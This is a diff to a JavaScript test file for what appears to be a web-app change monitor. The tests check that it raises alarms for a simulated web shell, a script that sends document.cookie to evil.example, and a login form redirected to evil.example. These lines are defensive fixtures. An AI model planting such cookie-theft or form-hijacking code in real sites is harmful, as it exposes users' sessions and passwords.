@@ -142,28 +142,54 @@ t.test('a change is found once, approved, and quiet while it is announced', asyn
   t.match((await command('report')).stdout, /files +missing header +Content-Security-Policy/)
 })
 
-t.test('a web shell, and a script file that changes', async t => {
+t.test('a web shell, a script file that changes, and a stranger who fills the list', async t => {
   const js = 'text/javascript'
-  const { app, gate, visit } = await started(t, (where, i) =>
+  const { app, gate, visit, command } = await started(t, (where, i) =>
     where.endsWith('.js') ? { type: js, body: `var v = ${i}; run(v)` } : { body: page(i) }
   )
   await visit('/login', 20)
   await visit('/app.js', 4)
+  let isBroken = false
   app.serve = (where, i) =>
     where.startsWith('/uploads/')
       ? { body: '<pre>uid=0</pre>' }
       : where.endsWith('.js')
         ? { type: js, body: 'var v = 1; run(v); fetch("https://evil.example/" + document.cookie)' }
-        : { body: page(i) }
+        : { body: page(i, '', where === '/login' && isBroken ? 'https://evil.example/take' : '/login') }
   await visit('/uploads/x.php?cmd=id', 1)
   await visit('/app.js', 1)
-  await visit('/take', 1, 'POST')
+  // Nobody has signed in.
+  for (let i = 0; i < 36; i++) await visit(`/pub/${'abcdefghij'[i % 10]}${'klmn'[Math.floor(i / 10)]}/go`, 1, 'POST')
+  for (const name of 'abcdef') await visit(`/uploads/${name}.php`, 1, 'POST')
+  isBroken = true
+  await visit('/login', 1)
+  t.same(
+    journal(gate).map(({ outcome, isTold }) => [outcome, isTold]),
+    [
+      ['alarm', true],
+      ['alarm', true],
+      ['alarm', true],
+      ['alarm', false],
+      ['alarm', false],
+      ['full', true],
+      ['alarm', true]
+    ]
+  )
+  const says =
+    /list of what is new in the app 'files' is full: further programs that answer to people who have not signed/
+  for (const name of ['watch app files', 'check', 'doctor']) {
+    const { stdout, stderr } = await command(...name.split(' '))
+    t.match(`${stdout}${stderr}`.replace(/\s+/g, ' '), says, name)
+  }
   const whys = journal(gate).map(({ why }) => why)
-  t.same(whys, [
-    "New on /uploads/x.php of the app 'files': /uploads/x.php answers with a page.",
-    "New on /app.js of the app 'files': code names https://evil.example; the script file /app.js has other content.",
-    "New on /take of the app 'files': /take accepts POST."
-  ])
+  t.same(
+    [...whys.slice(0, 2), whys.at(-1)],
+    [
+      "New on /uploads/x.php of the app 'files': /uploads/x.php answers with a page.",
+      "New on /app.js of the app 'files': code names https://evil.example; the script file /app.js has other content.",
+      "New on /login of the app 'files': a form that asks for a password is sent to https://evil.example."
+    ]
+  )
 })
 
 t.test('pages that the gate fetches itself', async t => {
